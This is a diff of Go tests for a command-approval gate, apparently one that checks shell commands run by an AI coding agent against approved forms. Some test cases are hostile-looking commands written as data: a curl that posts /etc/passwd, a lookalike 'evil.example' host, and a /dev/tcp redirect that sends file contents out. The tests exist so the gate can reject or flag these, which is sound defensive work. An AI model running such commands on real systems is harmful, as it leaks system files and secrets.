@@ -1,4 +1,4 @@
-package form
+package gate
 
 import (
 	"fmt"
@@ -27,8 +27,8 @@ func TestEqual(t *testing.T) {
 		{"echo 'a", "echo 'a", false}, // no command at all
 		{"", "", false},
 	} {
-		a, _ := Parse(c.a)
-		b, _ := Parse(c.b)
+		a, _ := parseForm(c.a)
+		b, _ := parseForm(c.b)
 		if got := a.Equal(b); got != c.want {
 			t.Errorf("%q and %q: %v, want %v", c.a, c.b, got, c.want)
 		}
@@ -37,10 +37,12 @@ func TestEqual(t *testing.T) {
 
 // TestHas: G26, a program is part of a command by its words, not by a substring.
 func TestHas(t *testing.T) {
-	usr := func(name string, args ...string) Ran { return Ran{"/usr/bin/" + name, append([]string{name}, args...)} }
+	usr := func(name string, args ...string) ranCommand {
+		return ranCommand{"/usr/bin/" + name, append([]string{name}, args...)}
+	}
 	for _, c := range []struct {
 		text string
-		ran  Ran
+		ran  ranCommand
 		want bool
 	}{
 		{"curl https://a.example", usr("curl", "https://a.example"), true},
@@ -54,10 +56,10 @@ func TestHas(t *testing.T) {
 		{"curl a{1,2}", usr("curl", "a1", "a2"), true},
 		{"curl ~/x", usr("curl", "/home/u/x"), true},
 		{"echo $(curl https://a.example)", usr("curl", "https://a.example"), true},
-		{"python3 a.py", Ran{"/usr/bin/python3.11", []string{"python3", "a.py"}}, true},
-		{"wget x", Ran{"/bin/busybox", []string{"wget", "x"}}, true},
-		{"./get x", Ran{"/w/get", []string{"./get", "x"}}, true},
-		{"/w/get x", Ran{"/w/get", []string{"get", "x"}}, true},
+		{"python3 a.py", ranCommand{"/usr/bin/python3.11", []string{"python3", "a.py"}}, true},
+		{"wget x", ranCommand{"/bin/busybox", []string{"wget", "x"}}, true},
+		{"./get x", ranCommand{"/w/get", []string{"./get", "x"}}, true},
+		{"/w/get x", ranCommand{"/w/get", []string{"get", "x"}}, true},
 
 		{"curl https://a.example", usr("curl", "https://a.example", "-d", "@/etc/passwd"), false},
 		{"curl https://a.example", usr("curl", "https://a.example.evil.example"), false},
@@ -66,17 +68,17 @@ func TestHas(t *testing.T) {
 		{"echo 'curl https://a.example'", usr("curl", "https://a.example"), false},
 		{"curl \"https://a.example/$x\"", usr("curl", "https://a.example/", "-d", "@x"), false},
 		{"curl https://a.example/$x/end", usr("curl", "https://a.example/1"), false},
-		{"curl https://a.example", Ran{"/tmp/bin/curl", []string{"curl", "https://a.example"}}, false}, // first in PATH
-		{"curl https://a.example", Ran{"/usr/bin/python3.11", []string{"curl", "https://a.example"}}, false},
+		{"curl https://a.example", ranCommand{"/tmp/bin/curl", []string{"curl", "https://a.example"}}, false}, // first in PATH
+		{"curl https://a.example", ranCommand{"/usr/bin/python3.11", []string{"curl", "https://a.example"}}, false},
 		{"$tool https://a.example", usr("curl", "https://a.example"), false},
-		{"curl https://a.example", Ran{"", []string{"curl", "https://a.example"}}, false},
-		{"curl https://a.example", Ran{"/usr/bin/curl", nil}, false},
+		{"curl https://a.example", ranCommand{"", []string{"curl", "https://a.example"}}, false},
+		{"curl https://a.example", ranCommand{"/usr/bin/curl", nil}, false},
 	} {
-		f, ok := Parse(c.text)
+		f, ok := parseForm(c.text)
 		if !ok {
 			t.Fatalf("%q cannot be parsed", c.text)
 		}
-		left := MaxSteps
+		left := maxSteps
 		if got := f.Has(c.ran, &left); got != c.want {
 			t.Errorf("%q has %q: %v, want %v", c.text, c.ran, got, c.want)
 		}
@@ -85,14 +87,14 @@ func TestHas(t *testing.T) {
 
 // TestB11FitsBounded: G26, a container chooses both sides of a comparison: one that takes too many steps is given up.
 func TestB11FitsBounded(t *testing.T) {
-	ran := func(n int, last ...string) Ran {
+	ran := func(n int, last ...string) ranCommand {
 		argv := append([]string{"./m"}, slices.Repeat([]string{"x"}, n)...)
-		return Ran{"/work/m", append(argv, last...)}
+		return ranCommand{"/work/m", append(argv, last...)}
 	}
 	fixed := "./m" + strings.Repeat(" x", 5000)
 	for _, c := range []struct {
 		text string
-		ran  Ran
+		ran  ranCommand
 		want bool
 	}{
 		{"./m $a $b", ran(200), true},
@@ -109,11 +111,11 @@ func TestB11FitsBounded(t *testing.T) {
 		{"./m y $a y", ran(0, "y"), false},
 		{"./m $a", ran(5000), true},
 	} {
-		f, ok := Parse(c.text)
+		f, ok := parseForm(c.text)
 		if !ok {
 			t.Fatalf("%.20q cannot be parsed", c.text)
 		}
-		left := MaxSteps
+		left := maxSteps
 		if got := f.Is(c.ran, &left); got != c.want {
 			t.Errorf("%.20q and %d words: %v, want %v", c.text, len(c.ran.Argv), got, c.want)
 		}
@@ -122,33 +124,33 @@ func TestB11FitsBounded(t *testing.T) {
 
 // TestB11HasBounded: G26, all simple commands of a text share the steps of one comparison, and nothing is made when none are left.
 func TestB11HasBounded(t *testing.T) {
-	letters := Ran{"/usr/bin/curl", append([]string{"curl"}, slices.Repeat([]string{"y"}, 8000)...)}
-	long := Ran{"/usr/bin/curl", []string{"curl", strings.Repeat("x", 1<<17)}}
+	letters := ranCommand{"/usr/bin/curl", append([]string{"curl"}, slices.Repeat([]string{"y"}, 8000)...)}
+	long := ranCommand{"/usr/bin/curl", []string{"curl", strings.Repeat("x", 1<<17)}}
 	for _, c := range []struct {
 		name, text string
-		ran        Ran
+		ran        ranCommand
 		most       float64 // allocations
 	}{
 		{"many commands", strings.Repeat("curl x$a\n", 4000), letters, 200},
 		{"two expansions in each", strings.Repeat("curl $a z$b\n", 4000), letters, 200},
 		{"long arguments", strings.Repeat("curl \"$a\"y\"$b\"\n", 2000), long, 200},
-		{"a long name", strings.Repeat("curl $a\n", 4000), Ran{"/usr/bin/curl", []string{strings.Repeat("x", 1<<17)}}, 0},
-		{"a long path", strings.Repeat("curl $a\n", 4000), Ran{"/usr/bin" + strings.Repeat("/", 4000) + "wget", []string{"wget"}}, 2500},
-		{"many expansions in a word", "curl " + strings.Repeat("$a", 20_000) + "z", Ran{letters.File, letters.Argv[:100]}, 200},
+		{"a long name", strings.Repeat("curl $a\n", 4000), ranCommand{"/usr/bin/curl", []string{strings.Repeat("x", 1<<17)}}, 0},
+		{"a long path", strings.Repeat("curl $a\n", 4000), ranCommand{"/usr/bin" + strings.Repeat("/", 4000) + "wget", []string{"wget"}}, 2500},
+		{"many expansions in a word", "curl " + strings.Repeat("$a", 20_000) + "z", ranCommand{letters.File, letters.Argv[:100]}, 200},
 	} {
-		f, ok := Parse(c.text)
+		f, ok := parseForm(c.text)
 		if !ok {
 			t.Fatalf("%s: cannot be parsed", c.name)
 		}
-		left, has := MaxSteps, true
+		left, has := maxSteps, true
 		made := testing.AllocsPerRun(1, func() {
-			left = MaxSteps
+			left = maxSteps
 			has = f.Has(c.ran, &left)
 		})
 		if has || left >= 0 || made > c.most {
 			t.Errorf("%s: %v, %d steps left, %v allocations; want it given up, and %v", c.name, has, left, made, c.most)
 		}
-		if f.Has(Ran{"/usr/bin/curl", []string{"curl"}}, &left) || f.Is(Ran{"/usr/bin/curl", []string{"curl", "y"}}, &left) {
+		if f.Has(ranCommand{"/usr/bin/curl", []string{"curl"}}, &left) || f.Is(ranCommand{"/usr/bin/curl", []string{"curl", "y"}}, &left) {
 			t.Errorf("%s: compared with no steps left", c.name)
 		}
 	}
@@ -162,7 +164,7 @@ func TestDevice(t *testing.T) {
 		"echo '/dev/tcp/192.0.2.1/80'":          false,
 		"f() { cat x; } >/dev/tcp/192.0.2.1/80": true,
 	} {
-		if f, _ := Parse(text); f.Device != want {
+		if f, _ := parseForm(text); f.Device != want {
 			t.Errorf("%q: %v, want %v", text, f.Device, want)
 		}
 	}
@@ -175,7 +177,7 @@ func TestWrapped(t *testing.T) {
 	quoted := "'" + strings.ReplaceAll(command, "'", `'"'"'`) + "'"
 	const source = "source /home/u/.claude/shell-snapshots/snapshot-bash-1763750000000-ab12cd.sh 2>/dev/null || true && "
 	const claude = source + "shopt -u extglob 2>/dev/null || true && "
-	want, _ := Parse(command)
+	want, _ := parseForm(command)
 	for _, argv := range [][]string{
 		{"bash", "-c", command},
 		{"/bin/bash", "-lc", command},
@@ -197,7 +199,7 @@ func TestWrapped(t *testing.T) {
 		{"bash", "-c", "eval " + quoted},
 	} {
 		found := false
-		for _, f := range Wrapped(argv) {
+		for _, f := range wrappedForms(argv) {
 			found = found || f.Equal(want)
 		}
 		if !found {
@@ -226,7 +228,7 @@ func TestWrapped(t *testing.T) {
 		{"curl", "-c", command},
 		{},
 	} {
-		for i, f := range Wrapped(argv) {
+		for i, f := range wrappedForms(argv) {
 			if f.Equal(want) {
 				t.Errorf("%q is recognised, layer %d", argv, i)
 			}
@@ -240,13 +242,13 @@ func FuzzWrapped(f *testing.F) {
 	f.Add("bash -lc \"bash -c 'id'\"", "id")
 	f.Add("a{1,2} $x *.c", "a1")
 	f.Fuzz(func(t *testing.T, text, approved string) {
-		want, ok := Parse(approved)
-		for _, got := range Wrapped([]string{"bash", "-c", text}) {
+		want, ok := parseForm(approved)
+		for _, got := range wrappedForms([]string{"bash", "-c", text}) {
 			if ok && got.Equal(want) && len(text) < len(strings.TrimSpace(approved))/8 {
 				t.Errorf("%q is recognised in %q", approved, text)
 			}
-			left := MaxSteps
-			got.Has(Ran{"/usr/bin/x", strings.Fields(text)}, &left)
+			left := maxSteps
+			got.Has(ranCommand{"/usr/bin/x", strings.Fields(text)}, &left)
 		}
 		_ = fmt.Sprint(want)
 	})
